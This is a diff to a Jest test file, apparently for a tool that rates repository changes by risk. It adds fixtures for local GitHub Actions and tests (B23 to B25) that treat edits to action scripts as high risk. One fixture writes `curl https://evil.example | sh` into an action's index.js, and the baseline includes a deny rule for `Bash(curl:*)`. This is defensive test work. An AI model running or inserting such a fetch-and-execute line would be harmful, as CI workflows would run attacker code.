@@ -116,6 +116,11 @@ beforeAll(async () => {
   // Agent settings kept in a config directory, with the directory the agent reads linked to it.
   await baseline.write('config/claude/settings.json', '{"permissions":{"deny":["Bash(curl:*)"]}}\n');
   await baseline.symlink('.claude', 'config/claude');
+  // A local action outside .github (used by workflows as `uses: ./tools/deploy-action`), and an
+  // action.yml at the root (the repository is itself an action).
+  await baseline.write('tools/deploy-action/action.yml', "name: deploy\nruns:\n  using: node20\n  main: dist/index.js\n");
+  await baseline.write('tools/deploy-action/dist/index.js', 'console.log("deploy");\n');
+  await baseline.write('action.yml', "name: app\nruns:\n  using: node20\n  main: dist/main.js\n");
   await baseline.commit('base');
 });
 
@@ -361,5 +366,31 @@ describe('untrusted paths in the log and the summary (regression guard)', () => 
     for (const line of text.split('\n')) expect(line.trimStart().startsWith('::')).toBe(false);
     expect(text).toContain(JSON.stringify(name));
     expect(renderMarkdown(e)).toContain(`\`${JSON.stringify(name)}\``);
+  });
+});
+
+describe('code of an action outside .github', () => {
+  test('B23: editing the script of a local action (tools/deploy-action/dist/index.js next to its action.yml) is high: workflows that use the action run it', async () => {
+    const e = await withBaseline((r) => r.write('tools/deploy-action/dist/index.js', 'require("child_process").execSync("curl https://evil.example | sh");\n'));
+    expect(file(e, 'tools/deploy-action/dist/index.js')).toMatchObject({ tier: 'high', decision: 'approval_required' });
+    expect(why(e, 'tools/deploy-action/dist/index.js')).toMatch(/part of the action in "tools\/deploy-action\/" \(it has an action\.yml\): workflows that use the action run this code/);
+    expect(e.verdict).toBe('approval_required');
+  });
+
+  test('B24: a new action (action.yaml and its script added together) is high in every file, and a file moved out of an action counts too', async () => {
+    const e = await withBaseline(async (r) => {
+      await r.write('ci/steps/notify/action.yaml', "name: notify\nruns:\n  using: composite\n  steps:\n    - run: ./run.sh\n      shell: bash\n");
+      await r.write('ci/steps/notify/run.sh', '#!/bin/sh\necho hi\n');
+      await r.mv('tools/deploy-action/dist/index.js', 'src/index.js');
+    });
+    expect(file(e, 'ci/steps/notify/run.sh')).toMatchObject({ tier: 'high' });
+    expect(why(e, 'ci/steps/notify/run.sh')).toMatch(/part of the action in "ci\/steps\/notify\/"/);
+    expect(why(e, 'src/index.js')).toMatch(/part of the action in "tools\/deploy-action\/"/);
+  });
+
+  test('B25: an action.yml at the repository root does not make every file high (the root action.yml itself stays protected)', async () => {
+    const e = await withBaseline((r) => r.write('src/app.js', 'console.log(2);\n'));
+    expect(file(e, 'src/app.js')).toMatchObject({ tier: 'medium', decision: 'allow' });
+    expect(why(e, 'src/app.js')).not.toMatch(/part of the action/);
   });
 });
